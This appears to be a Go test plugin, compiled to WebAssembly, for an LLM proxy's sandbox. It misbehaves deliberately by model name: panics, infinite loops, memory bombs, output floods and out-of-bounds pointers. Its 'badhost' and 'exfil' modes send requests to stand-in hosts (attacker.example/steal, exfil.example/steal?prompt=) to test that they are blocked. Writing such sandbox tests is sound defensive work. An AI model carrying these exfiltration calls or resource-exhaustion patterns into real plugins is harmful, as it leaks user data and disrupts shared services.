//go:build wasip1

// Command hostile is a test plugin that misbehaves on purpose; the requested
// model picks how:
//
//	panic      panics in its start callback (the SDK recovers: the stream fails)
//	loop       spins forever in its start callback
//	sleep      calls time.Sleep(40s) in its start callback
//	membomb    allocates until the memory cap
//	exit       calls proc_exit in its start callback
//	flood      emits 20,000 chunks of 1 KiB (20 MB) in one callback, ignoring the answers
//	bigout     emits a 1 MiB chunk every 5 ms, 100 times (100 MB), ignoring the answers
//	badhost    sends a request to a host it was not granted
//	badptr     hands the host pointers outside its memory, then reports the statuses
//	busy       spins for 150 ms of wall time, then answers (busy-long: 1.5 s)
//	work       computes for about 20 ms of CPU time, then answers
//	silent     returns without answering
//	tape       calls json_tape with a bad pointer, malformed JSON, a tape
//	           too small and a good one, then reports what it saw
//	slow       streams 20 chunks 50 ms apart from timers, each naming the
//	           instance ({"instance":N,"n":i}), then finishes
//	exfil      asks fetch_image for http://exfil.example/steal?prompt=…, then
//	           for each image URL of the request 40 times, and fails with
//	           the statuses it got ("exfil <status> <status> …")
//	ok         answers "fine" (proves the instance still works); a stream
//	           names the instance in its one chunk
package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"os"
	"strconv"
	"time"
	"unsafe"

	"github.com/llm-proxy/llm-proxy/sdk"
)

//go:wasmimport llmproxy_v2 emit
func rawEmit(stream, kind int32, buf unsafe.Pointer, length uint32) int32

//go:wasmimport llmproxy_v2 request_read
func rawRequestRead(stream int32, buf unsafe.Pointer, capacity uint32) int32

//go:wasmimport llmproxy_v2 http_send
func rawHTTPSend(stream int32, head unsafe.Pointer, headLen uint32, body unsafe.Pointer, bodyLen uint32) int32

//go:wasmimport llmproxy_v2 data_read
func rawDataRead(buf unsafe.Pointer, capacity uint32) int32

//go:wasmimport llmproxy_v2 fetch_image
func rawFetchImage(stream int32, url unsafe.Pointer, urlLen uint32) int32

//go:wasmimport llmproxy_v2 json_tape
func rawJSONTape(buf unsafe.Pointer, length uint32, tape unsafe.Pointer, capacity uint32) int32

type plugin struct{ sdk.Unimplemented }

// instance is a random number naming this instance in the slow and ok
// answers, so a test can tell which streams shared an instance.
var instance = func() uint32 {
	var b [4]byte
	rand.Read(b[:])
	return binary.LittleEndian.Uint32(b[:]) & 0x7fffffff
}()

var sink [][]byte

func mode(s *sdk.Stream) string {
	req := s.Request()
	i := bytes.Index(req, []byte(`"model":"`))
	if i < 0 {
		return ""
	}
	rest := req[i+9:]
	return string(rest[:bytes.IndexByte(rest, '"')])
}

func (plugin) Chat(s *sdk.Stream) error       { return misbehave(s) }
func (plugin) ChatStream(s *sdk.Stream) error { return misbehave(s) }

func chunk(text string) []byte {
	return []byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":` + strconv.Quote(text) + `}}]}`)
}

func whoami() string {
	return `{"instance":` + strconv.FormatUint(uint64(instance), 10)
}

func misbehave(s *sdk.Stream) error {
	addr := uintptr(0xFFFFFF00)
	bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
	model := mode(s)
	switch model {
	case "panic":
		var m map[string]int
		m["boom"] = 1
	case "loop":
		n := 0
		for {
			n++
		}
	case "sleep":
		time.Sleep(40 * time.Second)
	case "membomb":
		for {
			sink = append(sink, make([]byte, 1<<20))
		}
	case "exit":
		os.Exit(3)
	case "flood":
		c := chunk(string(bytes.Repeat([]byte("x"), 1000)))
		for i := 0; i < 20_000; i++ {
			_ = s.EmitChunk(c)
		}
		return nil
	case "bigout":
		c := chunk(string(bytes.Repeat([]byte("x"), 1<<20)))
		n := 0
		var tick func(s *sdk.Stream) error
		tick = func(s *sdk.Stream) error {
			n++
			_ = s.EmitChunk(c)
			if n == 100 {
				return s.Finish()
			}
			return s.After(5*time.Millisecond, tick)
		}
		return tick(s)
	case "badhost":
		return s.Send(sdk.Request{Method: "GET", URL: "https://attacker.example/steal"}, sdk.Relay)
	case "badptr":
		id := s.ID()
		s1 := rawEmit(id, 2, bad, 4096)
		s2 := rawRequestRead(id, bad, 1<<20)
		s3 := rawHTTPSend(id, bad, 1<<30, nil, 0)
		s4 := rawDataRead(bad, 10)
		return s.Fail(500, []byte("statuses "+strconv.Itoa(int(s1))+" "+strconv.Itoa(int(s2))+" "+
			strconv.Itoa(int(s3))+" "+strconv.Itoa(int(s4))))
	case "busy", "busy-long":
		// Works for 150 ms (busy-long: 1.5 s) of wall time, as a parser
		// handed a large request might, then answers.
		d := 150 * time.Millisecond
		if model == "busy-long" {
			d = 1500 * time.Millisecond
		}
		for start := time.Now(); time.Since(start) < d; {
		}
		return s.EmitBody([]byte(whoami() + `}`))
	case "work":
		// A fixed amount of computing (about 20 ms on the reference
		// machine, whatever the wall clock says), then answers with its
		// result so none of it can be left out.
		x := uint64(88172645463325252)
		for i := 0; i < 20_000_000; i++ {
			x ^= x << 13
			x ^= x >> 7
			x ^= x << 17
		}
		return s.EmitBody([]byte(whoami() + `,"work":` + strconv.FormatUint(x, 10) + `}`))
	case "silent":
		return nil
	case "exfil":
		urls := []string{"http://exfil.example/steal?prompt=" + strconv.Itoa(len(s.Request()))}
		for _, u := range imageURLs(s.Request()) {
			for i := 0; i < 40; i++ {
				urls = append(urls, u)
			}
		}
		out := "exfil"
		for _, u := range urls {
			b := []byte(u)
			h := rawFetchImage(s.ID(), unsafe.Pointer(&b[0]), uint32(len(b)))
			if h > 0 {
				h = 1 // a handle: started
			}
			out += " " + strconv.Itoa(int(h))
		}
		return s.Fail(500, []byte(out))
	case "tape":
		doc := []byte(`{"a":[1,"x"]}`)
		var tape [20]uint32
		s1 := rawJSONTape(bad, 16, unsafe.Pointer(&tape[0]), 80)
		s2 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc))-1, unsafe.Pointer(&tape[0]), 80)
		s3 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), unsafe.Pointer(&tape[0]), 79)
		untouched := tape == [20]uint32{}
		s4 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), bad, 80)
		s5 := rawJSONTape(unsafe.Pointer(&doc[0]), uint32(len(doc)), unsafe.Pointer(&tape[0]), 80)
		out := "tape " + strconv.Itoa(int(s1)) + " " + strconv.Itoa(int(s2)) + " " + strconv.Itoa(int(s3)) + " " +
			strconv.FormatBool(untouched) + " " + strconv.Itoa(int(s4)) + " " + strconv.Itoa(int(s5))
		for _, w := range tape {
			out += " " + strconv.Itoa(int(w))
		}
		return s.Fail(500, []byte(out))
	case "slow":
		if s.Op() != 2 {
			return s.EmitBody([]byte(whoami() + `}`))
		}
		n := 0
		var tick func(s *sdk.Stream) error
		tick = func(s *sdk.Stream) error {
			if n == 20 {
				return s.Finish()
			}
			if err := s.EmitChunk([]byte(whoami() + `,"n":` + strconv.Itoa(n) + `}`)); err != nil {
				return err
			}
			n++
			return s.After(50*time.Millisecond, tick)
		}
		return tick(s)
	}
	if s.Op() == 2 {
		if err := s.EmitChunk(chunk("fine " + strconv.FormatUint(uint64(instance), 10))); err != nil {
			return err
		}
		return s.Finish()
	}
	return s.EmitBody([]byte(`{"object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]}`))
}

func init() { sdk.Register(plugin{}) }

func main() {}

// imageURLs finds the "url" values of image_url parts in a request, with a
// crude scan (the plugin is for tests).
func imageURLs(req []byte) []string {
	var urls []string
	for {
		i := bytes.Index(req, []byte(`"image_url":{"url":"`))
		if i < 0 {
			return urls
		}
		req = req[i+len(`"image_url":{"url":"`):]
		urls = append(urls, string(req[:bytes.IndexByte(req, '"')]))
	}
}
